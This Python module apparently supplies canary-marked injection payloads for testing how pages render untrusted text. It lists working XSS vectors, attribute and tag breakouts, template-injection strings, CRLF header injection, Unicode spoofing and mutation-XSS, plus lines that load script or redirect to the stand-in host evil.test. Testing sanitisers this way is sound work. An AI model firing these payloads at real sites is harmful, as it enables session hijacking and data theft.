"""Texts that try to become script, markup, a template, a header or an address, wherever a page shows them.

`@` stands for the payload's number: what is executed calls ``pwned(number)``, what becomes an element carries the
attribute ``data-pwned``. All are in lower case, without underscores and at most 64 characters long, so that they
also fit where tags and categories are kept.
"""

from __future__ import annotations

import unicodedata

TEMPLATES = (
    # elements that load or run something
    "<script data-pwned>pwned(@)</script>",
    "<script src=//evil.test/@.js data-pwned></script>",
    "<img src=x onerror=pwned(@) data-pwned>",
    "<svg onload=pwned(@) data-pwned>",
    "<svg/onload=pwned(@)/data-pwned>",
    "<body onpageshow=pwned(@) data-pwned>",
    "<details open ontoggle=pwned(@) data-pwned>",
    "<input autofocus onfocus=pwned(@) data-pwned>",
    "<video data-pwned><source onerror=pwned(@)></video>",
    "<marquee onstart=pwned(@) data-pwned>",
    '<iframe srcdoc="<script>parent.pwned(@)</script>" data-pwned>',
    "<object data=javascript:pwned(@) data-pwned>",
    "<embed src=data:text/html;@ data-pwned>",
    "<form action=javascript:pwned(@) data-pwned><button>",
    "<meta http-equiv=refresh content=0;//evil.test/@ data-pwned>",
    "<base href=//evil.test/@/ data-pwned>",
    "<link rel=stylesheet href=//evil.test/@ data-pwned>",
    '<script type=importmap data-pwned>{"imports":{}}</script>@',
    "<template data-pwned shadowrootmode=open>@",
    "<b id=toasts data-pwned>@</b>",
    # style
    "<p style=background:url(//evil.test/@) data-pwned>",
    "<b style=width:expression(pwned(@)) data-pwned>",
    "<style data-pwned>*{background:url(//evil.test/@)}</style>",
    # addresses
    "<a href=javascript:pwned(@) data-pwned>go</a>",
    "javascript:pwned(@)",
    "java&#115;cript:pwned(@)",
    "vbscript:pwned(@)",
    "data:text/html;<script data-pwned>pwned(@)</script>",
    "https://evil.test/@\"onmouseover=pwned(@)'data-pwned",
    # out of an attribute
    '" data-pwned autofocus onfocus=pwned(@) x="',
    "' data-pwned autofocus onfocus=pwned(@) x='",
    '"><img src=x onerror=pwned(@) data-pwned>',
    "'><svg onload=pwned(@) data-pwned>",
    "` data-pwned onmouseover=pwned(@) `",
    "x data-pwned onclick=pwned(@)",
    # out of an element
    "<!-- @ --><b data-pwned>x</b><!--",
    "--><b data-pwned onclick=pwned(@)>x</b>",
    "</title><script data-pwned>pwned(@)</script>",
    "</textarea><script data-pwned>pwned(@)</script>",
    "</script><script data-pwned>pwned(@)</script>",
    "</noscript><img src=x onerror=pwned(@) data-pwned>",
    "</style><svg onload=pwned(@) data-pwned>",
    "</option></select><b data-pwned>@</b>",
    # templates
    "{{ request.user.password }} @",
    "{% debug %} @",
    "{{constructor.constructor('pwned(@)')()}}",
    "${pwned(@)} #{pwned(@)} <%= pwned(@) %>",
    # JSON, markdown, encodings
    '"}],"pwned":"@","x":[{"y":"',
    "\\u003cb data-pwned\\u003e@\\u003c/b\\u003e",
    "[go](javascript:pwned(@)) ![x](//evil.test/@)",
    "&lt;b data-pwned&gt;@&lt;/b&gt;",
    "&#60;b data-pwned&#62;@&#60;/b&#62;",
    "%3cscript data-pwned%3epwned(@)%3c/script%3e",
    "+adw-script data-pwned+ad4-pwned(@)+adw-/script+ad4-",
    # htmx
    "<div hx-on:load=pwned(@) data-pwned>",
    "<div hx-get=//evil.test/@ hx-trigger=load data-pwned>",
    '" hx-get="//evil.test/@" hx-trigger="load" data-pwned="',
    # letters that look or act like others
    "\uff1cscript data-pwned\uff1epwned(@)\uff1c/script\uff1e",
    "<\u017fcript data-pwned>pwned(@)</\u017fcript>",
    "\u202e<b data-pwned>@</b>\u202cgnp.exe",
    # mutation when parsed again
    '<noscript><p title="</noscript><b data-pwned>@">',
    "<math><mtext><table><mglyph><style><b data-pwned>@",
    "<svg><style><img src=x onerror=pwned(@) data-pwned>",
    "<math href=javascript:pwned(@) data-pwned>x</math>",
    "<svg><use href=data:image/svg+xml;@ data-pwned></svg>",
    'photo@.svg"><svg onload=pwned(@) data-pwned>.svg',
    # line ends and other control characters
    "a\r\nset-cookie: pwned=@\r\n\r\n<b data-pwned>@</b>",
    "a\n<b data-pwned>@</b>\u2028pwned(@)",
    "<img\x0csrc=x\x0conerror=pwned(@)\x0cdata-pwned>",
    "%00<b data-pwned>@</b>%0d%0aset-cookie:x",
)

PAYLOADS = tuple(text.replace("@", str(number)) for number, text in enumerate(TEMPLATES, start=100))


def bundles(limit_characters: int) -> list[str]:
    """All payloads in texts of at most so many characters. Any one that is understood changes what follows it."""
    texts: list[str] = []
    for payload in PAYLOADS:
        if texts and len(texts[-1]) + 1 + len(payload) <= limit_characters:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts


def compact(text: str) -> str:
    """Without what may be normalised: case, white space, underscores, invisible and full-width characters."""
    plain = unicodedata.normalize("NFKC", text).lower()
    return "".join(char for char in plain if char.isprintable() and char not in " _")
